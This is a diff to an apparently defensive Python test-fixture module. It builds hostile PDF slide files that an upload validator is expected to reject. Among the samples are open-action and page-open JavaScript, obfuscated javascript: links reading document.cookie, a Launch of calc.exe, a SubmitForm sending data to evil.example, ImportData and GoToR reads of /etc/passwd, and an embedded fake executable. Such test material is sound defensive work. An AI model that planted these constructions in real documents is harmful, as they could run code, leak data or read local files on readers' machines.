@@ -11,6 +11,7 @@ import struct
 import zlib
 from dataclasses import dataclass
 
+import pikepdf
 from PIL import Image
 from pypdf import PdfWriter
 from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
@@ -98,6 +99,118 @@ def pdf_open_action_launch() -> bytes:
     return out.getvalue()
 
 
+def _pikepdf_slides(change) -> bytes:
+    """Two landscape slides from pikepdf, changed by `change(pdf)`: how hostile decks are built beside plain ones."""
+    with pikepdf.new() as document:
+        for _ in range(2):
+            document.add_blank_page(page_size=(842, 595))
+        change(document)
+        out = io.BytesIO()
+        document.save(out)
+    return out.getvalue()
+
+
+def _javascript(document: pikepdf.Pdf) -> pikepdf.Dictionary:
+    return document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x');")))
+
+
+def _link(document: pikepdf.Pdf, action: pikepdf.Dictionary, *, subtype: pikepdf.Name = pikepdf.Name.Link, **extra) -> None:
+    """A clickable area on the first slide that runs `action`."""
+    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=subtype, Rect=[100, 100, 400, 200], Border=[0, 0, 0], A=action, **extra)
+    document.pages[0].obj.Annots = document.make_indirect(pikepdf.Array([document.make_indirect(annotation)]))
+
+
+def _uri(uri: str) -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(uri))
+
+
+def _open_action_javascript(document: pikepdf.Pdf) -> None:
+    document.Root.OpenAction = _javascript(document)
+
+
+def _open_action_chain(document: pikepdf.Pdf) -> None:
+    # Harmless at first sight: go to slide 1, then (through /Next) run a script.
+    page = document.pages[0].obj
+    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[page, pikepdf.Name.Fit], Next=pikepdf.Array([_javascript(document)]))
+
+
+def _page_open_script(document: pikepdf.Pdf) -> None:
+    document.pages[1].obj.AA = document.make_indirect(pikepdf.Dictionary(O=_javascript(document)))
+
+
+def _outline_script(document: pikepdf.Pdf) -> None:
+    with document.open_outline() as outline:
+        outline.root.append(pikepdf.OutlineItem("Start", 0))
+    document.Root.Outlines.First.A = _javascript(document)
+
+
+def _rich_media(document: pikepdf.Pdf) -> None:
+    content = pikepdf.Dictionary(Assets=pikepdf.Dictionary(Names=pikepdf.Array()))
+    _link(document, _uri("https://example.org/"), subtype=pikepdf.Name.RichMedia, RichMediaContent=content)
+
+
+def _file_attachment(document: pikepdf.Pdf) -> None:
+    payload = pikepdf.Stream(document, b"MZ" + b"\x00" * 100, Type=pikepdf.Name.EmbeddedFile)
+    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("payload.exe"), EF=pikepdf.Dictionary(F=payload))
+    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[10, 10, 30, 30], FS=spec)
+    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(annotation)])
+
+
+def _xfa_form(document: pikepdf.Pdf) -> None:
+    xfa = pikepdf.Stream(document, b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')
+    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)
+
+
+def _safe_links(document: pikepdf.Pdf) -> None:
+    # What real decks carry: a web link, a mail link, a jump to a slide, a start on slide 1.
+    page = document.pages[0].obj
+    document.Root.OpenAction = pikepdf.Array([page, pikepdf.Name.Fit])
+    links = [
+        _uri("https://www.example.org/foerderung"),
+        _uri("mailto:info@example.org"),
+        pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[document.pages[1].obj, pikepdf.Name.Fit]),
+    ]
+    page.Annots = pikepdf.Array(
+        [
+            document.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[10, 10 + 40 * i, 200, 40 + 40 * i], A=a))
+            for i, a in enumerate(links)
+        ]
+    )
+
+
+def active_pdfs() -> list[Hostile]:
+    """PDFs that would run something, fetch something or hide a file: every one must be refused as slides (S-7)."""
+    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
+    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://evil.example/collect")))
+    import_data = pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String("/etc/passwd"))
+    goto_remote = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("file:///etc/passwd"), D=pikepdf.Array([0, pikepdf.Name.Fit]))
+    cases = [
+        ("PDF running JavaScript on open", _open_action_javascript),
+        ("PDF whose open action chains to JavaScript through /Next", _open_action_chain),
+        ("PDF with JavaScript on opening a page (/AA)", _page_open_script),
+        ("PDF with a javascript: link", lambda d: _link(d, _uri("javascript:app.alert(document.cookie)"))),
+        ("PDF with a hidden JavaScript: link", lambda d: _link(d, _uri("  JaVaScRiPt:app.alert(1)"))),
+        ("PDF with a file: link", lambda d: _link(d, _uri("file:///etc/passwd"))),
+        (
+            "PDF with a link that chains to JavaScript",
+            lambda d: _link(d, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"), Next=_javascript(d))),
+        ),
+        ("PDF with a Launch link", lambda d: _link(d, launch)),
+        ("PDF with a SubmitForm link", lambda d: _link(d, submit)),
+        ("PDF with an ImportData link", lambda d: _link(d, import_data)),
+        ("PDF with a GoToR link to file:", lambda d: _link(d, goto_remote)),
+        ("PDF with a bookmark that runs JavaScript", _outline_script),
+        ("PDF with a RichMedia annotation", _rich_media),
+        ("PDF with an embedded file annotation", _file_attachment),
+        ("PDF with an XFA form", _xfa_form),
+    ]
+    return [Hostile(name, _pikepdf_slides(change), "folien.pdf", "application/pdf") for name, change in cases]
+
+
+def pdf_with_safe_links() -> bytes:
+    return _pikepdf_slides(_safe_links)
+
+
 JPEG = image()
 
 
@@ -132,4 +245,6 @@ def hostile_files() -> list[Hostile]:
         Hostile("truncated PDF", pdf(3)[:200], "kaputt.pdf", "application/pdf"),
         Hostile("PDF with 201 pages", pdf(201), "dick.pdf", "application/pdf"),
         Hostile("JPEG named .pdf", JPEG, "folien.pdf", "application/pdf", accepted_as_photo=True),  # the name is not trusted either way
+        Hostile("PDF with web, mail and slide links", pdf_with_safe_links(), "links.pdf", "application/pdf", accepted_as_pdf=True),
+        *active_pdfs(),
     ]
